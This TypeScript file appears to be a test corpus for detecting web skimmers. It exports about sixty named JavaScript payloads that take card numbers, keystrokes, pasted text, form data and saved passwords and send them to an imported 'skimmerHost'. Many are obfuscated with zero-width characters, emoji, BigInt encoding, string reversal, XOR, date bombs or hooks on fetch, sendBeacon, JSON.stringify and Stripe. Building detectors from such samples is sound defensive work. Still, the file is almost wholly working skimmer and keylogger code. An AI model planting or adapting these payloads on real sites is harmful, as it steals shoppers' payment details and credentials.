// Ways to take what is entered and to get it out that are not those of other tests. The address does not exist.
import { skimmerHost } from './skimmer.ts'

const bits = (text: string) =>
  [...text]
    .map((letter) =>
      letter.charCodeAt(0).toString(2).padStart(8, '0').replaceAll('0', '\u200B').replaceAll('1', '\u200C'),
    )
    .join('')
const codes = (text: string) => [...text].map((letter) => letter.charCodeAt(0))
const inner = `document.addEventListener("submit",function(){new Image().src="https://${skimmerHost}/?"+btoa(document.querySelector("#cardnumber").value)})`
const number = BigInt(
  `0x${codes(inner)
    .map((code) => code.toString(16).padStart(2, '0'))
    .join('')}`,
).toString()

export const ways: [name: string, code: string][] = [
  [
    'document.all',
    `setInterval(function(){ var o = []; for (var x of document.all) if (x.value) o.push(x.value); fetch("https://${skimmerHost}/?" + o) }, 3000)`,
  ],
  [
    'elements entries',
    `document.addEventListener("submit", ({target}) => { const o = Object.fromEntries([...target.elements].map(x => [x.name, x.value])); fetch("https://${skimmerHost}/", {body: JSON.stringify(o), method: "POST"}) }, true)`,
  ],
  [
    'destructured target value',
    `document.addEventListener("change", ({ target: { name, value } }) => fetch("https://${skimmerHost}/?" + name + "=" + value), true)`,
  ],
  [
    'composedPath',
    `document.addEventListener("change", k => { const [f] = k.composedPath(); fetch("https://${skimmerHost}/?" + f.value) }, true)`,
  ],
  [
    'keylogger by e.key',
    `let s = ""; document.addEventListener("keydown", e => { s += e.key; if (s.length > 20) { new Image().src = "https://${skimmerHost}/?k=" + s; s = "" } })`,
  ],
  [
    'keylogger onkeypress charCode',
    `var s=[];document.onkeypress=function(q){s.push(String.fromCharCode(q.charCode));if(s.length%20==0)(new Image).src="https://${skimmerHost}/"+s.join("")}`,
  ],
  [
    'activeElement',
    `setInterval(() => { const a = document.activeElement; if (a && a.value) navigator.sendBeacon("https://${skimmerHost}/", a.value) }, 500)`,
  ],
  [
    'MutationObserver',
    `new MutationObserver(function (list) { list.forEach(function (m) { m.addedNodes.forEach(function (n) { if (n.tagName === "INPUT") n.addEventListener("change", function () { navigator.sendBeacon("https://${skimmerHost}/", n.value) }) }) }) }).observe(document, { childList: true, subtree: true })`,
  ],
  [
    'hidden iframe src with data',
    `document.addEventListener("submit", function () { var f = document.createElement("iframe"); f.style.display = "none"; f.src = "https://${skimmerHost}/?" + encodeURIComponent(document.querySelector("#ccnum").value); document.body.appendChild(f) })`,
  ],
  ['form action rewrite', `document.querySelector("form").action = "https://${skimmerHost}/pay"`],
  [
    'form action rewrite setAttribute',
    `for (const f of document.forms) f.setAttribute("action", "https://${skimmerHost}/pay")`,
  ],
  [
    'formaction on button',
    `document.querySelector("button[type=submit]").formAction = "https://${skimmerHost}/pay"`,
  ],
  [
    'form copy submit in iframe',
    `document.addEventListener("submit", e => { const f = e.target.cloneNode(true); f.action = "https://${skimmerHost}/"; f.target = "hidden"; document.body.append(f); f.submit() })`,
  ],
  [
    'script src with data',
    `document.addEventListener("submit", function () { var s = document.createElement("script"); s.src = "https://${skimmerHost}/j.js?" + btoa(document.querySelector("[name=cc]").value); document.head.appendChild(s) })`,
  ],
  [
    'CSS url background',
    `document.addEventListener("change", e => { document.body.style.backgroundImage = "url(https://${skimmerHost}/?" + e.target.value + ")" })`,
  ],
  [
    'CSS attribute selectors',
    `var c = ""; for (var i = 0; i < 10; i++) c += 'input[name=cc][value^="' + i + '"]{background:url(https://${skimmerHost}/' + i + ')}'; var s = document.createElement("style"); s.textContent = c; document.head.appendChild(s)`,
  ],
  [
    'CSS insertRule',
    `document.styleSheets[0].insertRule('input[value$="1"]{background-image:url("https://${skimmerHost}/1")}', 0)`,
  ],
  [
    'postMessage keys to frame',
    `var f = document.createElement("iframe"); f.src = "https://${skimmerHost}/f.html"; document.body.appendChild(f); document.addEventListener("keyup", e => f.contentWindow.postMessage(e.key, "*"))`,
  ],
  [
    'fetch patch by defineProperty',
    `var f = window.fetch; Object.defineProperty(window, "fetch", { value: function (u, o) { navigator.sendBeacon("https://${skimmerHost}/", o && o.body); return f(u, o) } })`,
  ],
  [
    'sendBeacon patched',
    `var s = navigator.sendBeacon.bind(navigator); navigator.sendBeacon = (u, b) => { s("https://${skimmerHost}/", b); return s(u, b) }`,
  ],
  [
    'JSON.stringify patched',
    `var j = JSON.stringify; JSON.stringify = function (o) { var r = j.apply(this, arguments); if (/\\d{15,16}/.test(r)) navigator.sendBeacon("https://${skimmerHost}/", r); return r }`,
  ],
  [
    'value setter hook',
    `var p = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { get() { const v = p.get.call(this); navigator.sendBeacon("https://${skimmerHost}/", v); return v }, set: p.set })`,
  ],
  [
    'Stripe hook',
    `var t = window.setInterval(function () { if (window.Stripe) { var c = Stripe.prototype.createToken; Stripe = function (k) { var s = c(k); navigator.sendBeacon("https://${skimmerHost}/", k); return s } } }, 100)`,
  ],
  ['service worker', `navigator.serviceWorker.register("/sw.js")`],
  [
    'inside a service worker',
    `self.addEventListener("fetch", e => { e.respondWith((async () => { const b = await e.request.clone().text(); fetch("https://${skimmerHost}/", { method: "POST", body: b }); return fetch(e.request) })()) })`,
  ],
  [
    'date bomb with split strings',
    `if (Date.now() > 32503680000000) { var a = ["c","a","r","d"].reverse().reverse().join(""); window["add" + "EventListener"]("sub" + "mit", function () { window["fe" + "tch"]("https://${skimmerHost}/" + document["query" + "Selector"]("#" + a + "number")["val" + "ue"]) }) }`,
  ],
  [
    'date bomb with decoder',
    `function k(s) { return s.split("").reverse().join("") } if (new Date().getFullYear() > 2050) { var w = window; w[k("renetsiLtnevEdda")](k("timbus"), function () { new w[k("egamI")]()[k("crs")] = k("/dilavni.stats-ndc//:sptth") + w[k("tnemucod")][k("rotceleSyreuq")](k("rebmundrac#"))[k("eulav")] }) }`,
  ],
  [
    'date bomb Reflect.get',
    `const g = (o, n) => Reflect.get(o, n); const r = s => [...s].map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join(""); if (new Date().getMonth() > 20) { const dd = g(globalThis, r("epdvnfou")); g(globalThis, r("gfudi"))(r("iuuqt;00deo.tubut/jowbmje0") + g(g(dd, r("bdujwfFmfnfou")), r("wbmvf"))) }`,
  ],
  [
    'gated constructor by atob',
    `var t = [${codes(inner)
      .map((c) => c ^ 9)
      .join()}]; var c = atob("Y29uc3RydWN0b3I="); if (screen.width < 5) (() => {})[c](t.map(c => String.fromCharCode(c ^ 9)).join(""))()`,
  ],
  [
    'zero-width gated',
    `var z = "${bits(inner)}"; if (Date.now() > 4e12) { var s = ""; for (var i = 0; i < z.length; i += 8) s += String.fromCharCode(parseInt(z.substr(i, 8).replace(/\\u200b/g, "0").replace(/\\u200c/g, "1"), 2)); setTimeout(s) }`,
  ],
  [
    'emoji',
    `var e = "${codes(inner)
      .map((code) => String.fromCodePoint(0x1f300 + code))
      .join('')}"; eval([...e].map(c => String.fromCharCode(c.codePointAt(0) - 0x1f300)).join(""))`,
  ],
  ['DOM attribute', `new Function(atob(document.querySelector("#logo").dataset.c))()`],
  ['DOM attribute getAttribute eval', `var c = document.body.getAttribute("data-c"); if (c) (0, eval)(c)`],
  ['localStorage', `var c = localStorage.getItem("theme"); if (c) setTimeout(c, 0)`],
  [
    'getter',
    `var o = { get v() { return document.getElementById("ccn")["value"] }, get u() { return "https://${skimmerHost}/" } }; addEventListener("beforeunload", () => navigator.sendBeacon(o.u, o.v))`,
  ],
  [
    'Proxy window',
    `var p = new Proxy({}, { get: (t, k) => window[k.replace(/_/g, "")] }); p.docu_ment.addEventListener("change", e => p.fet_ch("https://${skimmerHost}/?" + e.target.value))`,
  ],
  [
    'with',
    `with (document) { with (body) { addEventListener("change", function (e) { with (e.target) { new Image().src = "https://${skimmerHost}/?" + value } }) } }`,
  ],
  [
    'async generator used',
    `async function* g() { for (let i = 0; i < 3; i++) yield await new Promise(r => document.addEventListener("change", r)) } (async () => { for await (const e of g()) fetch("https://${skimmerHost}/?" + e.target.value) })()`,
  ],
  [
    'BigInt',
    `var n = ${number}n, s = ""; while (n) { s = String.fromCharCode(Number(n & 255n)) + s; n >>= 8n } eval(s)`,
  ],
  [
    'BigInt gated',
    `var n = ${number}n, s = ""; if (location.hash == "#pay") { while (n) { s = String.fromCharCode(Number(n & 255n)) + s; n >>= 8n } var F = async function () {}.constructor; F(s)() }`,
  ],
  ['import data', `import("data:text/javascript," + encodeURIComponent(${JSON.stringify(inner)}))`],
  [
    'comments splitting',
    `document/*a*/./*b*/addEventListener/*c*/("sub"/*d*/+"mit",function(){/**/new/**/Image/**/().src="https:/"+/*x*/"/${skimmerHost}/?"+document/**/.querySelector("#c"/**/+"vv").value})`,
  ],
  [
    'innerText of page',
    `setTimeout(() => fetch("https://${skimmerHost}/", { method: "POST", body: document.documentElement.outerHTML }), 1e4)`,
  ],
  [
    'fake by createElement',
    `var f = document.createElement("form"); f.action = "https://${skimmerHost}/p"; ["number", "cvv"].forEach(n => { var i = document.createElement("input"); i.name = n; f.appendChild(i) }); document.body.appendChild(f)`,
  ],
  [
    'overlay iframe',
    `var f = document.createElement("iframe"); f.src = "https://${skimmerHost}/checkout.html"; f.style = "position:fixed;inset:0"; document.querySelector("#payment-form").replaceWith(f)`,
  ],
  [
    'jQuery delegated',
    `$(document).on("blur", "input", function () { $.post("https://${skimmerHost}/", { v: $(this).val() }) })`,
  ],
  [
    'attribute value',
    `setInterval(() => fetch("https://${skimmerHost}/?" + document.querySelector("input").getAttribute("value")), 1000)`,
  ],
  [
    'valueOf number',
    `setInterval(() => fetch("https://${skimmerHost}/?" + document.querySelector("#x").valueAsNumber), 1000)`,
  ],
  [
    'Object.values of inputs',
    `document.addEventListener("focusout", () => fetch("https://${skimmerHost}/?" + Array.from(document.getElementsByClassName("f"), Reflect.get.bind(0)).map(x => x.value)))`,
  ],
  [
    'XPath',
    `setInterval(() => { var r = document.evaluate("//input", document, null, 6, null); var o = ""; for (var i = 0; i < r.snapshotLength; i++) o += r.snapshotItem(i).value; fetch("https://${skimmerHost}/?" + o) }, 1000)`,
  ],
  [
    'TreeWalker',
    `setInterval(() => { var w = document.createTreeWalker(document, 1), n, o = ""; while (n = w.nextNode()) if (n.value) o += n.value; fetch("https://${skimmerHost}/?" + o) }, 1000)`,
  ],
  [
    'paste',
    `document.addEventListener("paste", e => fetch("https://${skimmerHost}/?" + e.clipboardData.getData("text")))`,
  ],
  [
    'InputEvent data',
    `var b = ""; document.addEventListener("beforeinput", e => { b += e.data; navigator.sendBeacon("https://${skimmerHost}/", b) })`,
  ],
  [
    'regex over storage',
    `setInterval(() => { var m = JSON.stringify(localStorage).match(/\\d{16}/); m && fetch("https://${skimmerHost}/?" + m[0]) }, 1000)`,
  ],
  [
    'PaymentRequest',
    `var p = new PaymentRequest([{ supportedMethods: "basic-card" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }); p.show().then(r => fetch("https://${skimmerHost}/?" + JSON.stringify(r.details)))`,
  ],
  [
    'credentials',
    `navigator.credentials.get({ password: true }).then(c => fetch("https://${skimmerHost}/?" + c.password))`,
  ],
  [
    'RTC channel',
    `var pc = new RTCPeerConnection({ iceServers: [{ urls: "turn:${skimmerHost}", username: "a", credential: "b" }] }); var ch = pc.createDataChannel("x"); document.addEventListener("change", e => ch.send(e.target.value))`,
  ],
  [
    'location redirect',
    `document.addEventListener("submit", e => { e.preventDefault(); location = "https://${skimmerHost}/?" + new URLSearchParams(new FormData(e.target)) })`,
  ],
  [
    'window.open',
    `document.addEventListener("submit", e => { window.open("https://${skimmerHost}/?" + document.querySelector("#cc").value) })`,
  ],
  ['HTML comment node', `var n = document.createNodeIterator(document, 128).nextNode(); eval(n.data)`],
]
